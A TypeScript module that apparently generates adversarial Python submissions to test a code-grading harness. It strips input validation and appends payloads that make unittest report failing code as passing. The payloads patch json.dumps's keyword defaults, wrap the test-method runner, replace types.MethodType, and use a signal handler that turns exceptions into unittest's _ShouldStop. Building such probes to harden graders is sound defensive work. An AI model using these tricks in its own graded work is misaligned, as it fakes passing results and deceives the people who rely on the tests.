export function withoutInputChecks(canonical: string, raise?: string): string {
  const lines = canonical.split("\n");
  const out: string[] = [];
  for (let i = 0; i < lines.length; i++) {
    const next = lines[i + 1] ?? "";
    if (/^\s+if .*:$/.test(lines[i] as string) && /^\s+raise ValueError\(/.test(next)) {
      if (raise) out.push(lines[i] as string, `${next.match(/^\s+/)?.[0]}raise ${raise}`);
      i++;
      continue;
    }
    out.push(lines[i] as string);
  }
  return out.join("\n");
}

/**
 * A keyword-only default of a function loaded before the run, changed in place: `__kwdefaults__` is the
 * function's own dictionary, and an item set in it raises no audit event. `json`: json.dumps's encoder class,
 * which the check helper encodes values with; `runner`: whatever keyword default unittest's test-method runner
 * has that is a function (the harness's wrapper once kept the real runner there), made one that swallows
 * every failure.
 */
export function keywordDefaultsAttack(candidate: string, route: "json" | "runner"): string {
  const trick =
    route === "json"
      ? `import json as _json
class _Rewrite(_json.JSONEncoder):
    def encode(self, o):
        return "0"
try:
    _json.dumps.__kwdefaults__["cls"] = _Rewrite
except (TypeError, AttributeError):
    pass
if _json.dumps([1]) == "0":
    raise RuntimeError("reached [a keyword-only default of json.dumps]")`
      : `import unittest as _ut
_kw = getattr(_ut.TestCase._callTestMethod, "__kwdefaults__", None) or {}
for _k, _real in list(_kw.items()):
    if callable(_real) and not isinstance(_real, type):
        def _lenient(self, method, *args, _real=_real, **kwargs):
            try:
                return _real(self, method, *args, **kwargs)
            except Exception:
                return None
        _kw[_k] = _lenient`;
  return `${candidate}\n\n${trick}\n`;
}

/** min-p-sampling's test.py with each bad input's assertRaises inside its own subTest (as many test files write it). */
export function subTestTests(tests: string): string {
  return tests.replace(
    /^(\s+)with self\.assertRaises\(ValueError\):\n(\s+)(.+)$/gm,
    (_m, ind: string, ind2: string, call: string) =>
      `${ind}with self.subTest(call=${JSON.stringify(call.trim())}):\n${ind}    with self.assertRaises(ValueError):\n${ind2}    ${call}`,
  );
}

/**
 * `types.MethodType` set, at the candidate's import, to a class that gives unittest's outcome a per-part executor
 * swallowing every failure (and is MethodType for anything else): the harness's closure-free context helpers
 * once bound themselves with the MethodType of the `types` module, which is not protected.
 */
export function methodTypeAttack(candidate: string): string {
  return `${candidate}

import types as _types
import unittest.case as _uc

_Real = _types.MethodType

class _Swallow:
    def __enter__(self):
        return None
    def __exit__(self, typ, value, tb):
        return True

class _Meta(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _Real)
    def __subclasscheck__(cls, sub):
        return issubclass(sub, _Real)

class _MethodType(metaclass=_Meta):
    def __new__(cls, fn, obj):
        if type(obj) is _uc._Outcome:
            return lambda *a, **k: _Swallow()
        return _Real(fn, obj)

_types.MethodType = _MethodType
`;
}

/**
 * An exception of the candidate's, made a `_ShouldStop` after unittest's per-part executor has decided that it
 * is not one (and before unittest's generator matches it): the stub `stub`'s failures become the candidate's
 * `X`; a signal handler, re-armed from C by a finalizer so that it runs at every check of the interpreter,
 * waits until the exception has unwound to `TestCase.run` and then changes its class (`class`), its class's
 * bases (`bases`), or, a few checks later, the bases of a plain mixin of `X`, whose metaclass's `mro()` then
 * puts `_ShouldStop` in `X`'s MRO (`mro`). unittest's generator then swallows it, and the test method that
 * raised it passes.
 */
export function exceptionFlipAttack(stub: string, route: "class" | "bases" | "mro"): string {
  return `${stub}

import functools as _functools
import signal as _signal
import unittest.case as _uc

try:
    import _thread
    _trip = _functools.partial(_thread.interrupt_main, _signal.SIGUSR1)
except (ImportError, AttributeError):
    _trip = _functools.partial(_signal.raise_signal, _signal.SIGUSR1)

_ROUTE = ${JSON.stringify(route)}
_FLIP = [False]

class _Meta(type):
    def mro(cls):
        base = type.mro(cls)
        if _FLIP[0] and cls.__name__ == "X":
            return [base[0], _uc._ShouldStop, *base[1:]]
        return base

class Mixin:
    pass

class X(Exception, Mixin, metaclass=_Meta):
    pass

class Y(X, _uc._ShouldStop):
    pass

_code = _uc.TestCase._callTestMethod.__code__
_CALL_LINE = min(l for _, _, l in _code.co_lines() if l is not None and l > _code.co_firstlineno)
_pending = [None]
_budget = [0]
_after = [0]
_K = 3 if _ROUTE == "mro" else 1

class _Rearm:
    __slots__ = ()
    __del__ = staticmethod(_trip)

def _handler(signum, frame):
    exc = _pending[0]
    if exc is None:
        return
    _budget[0] += 1
    if _budget[0] > 200000:
        _pending[0] = None
        return
    tb = exc.__traceback__
    nxt = tb.tb_next if tb is not None else None
    if nxt is not None and nxt.tb_lineno == _CALL_LINE:
        _after[0] += 1
        if _after[0] >= _K:
            _pending[0] = None
            if _ROUTE == "class":
                exc.__class__ = Y
            elif _ROUTE == "bases":
                X.__bases__ = (_uc._ShouldStop,)
            else:
                _FLIP[0] = True
                Mixin.__bases__ = (object,)
            return
    keep = _Rearm()

_signal.signal(_signal.SIGUSR1, _handler)

def _bail(cause):
    exc = X(f"gave up: {cause!r}")
    _pending[0] = exc
    _after[0] = 0
    _trip()
    raise exc

def _wrap(fn):
    def wrapped(*a, **k):
        try:
            return fn(*a, **k)
        except Exception as e:
            cause = e
        _bail(cause)
    return wrapped

softmax_with_temperature = _wrap(softmax_with_temperature)
min_p_filter = _wrap(min_p_filter)
`;
}
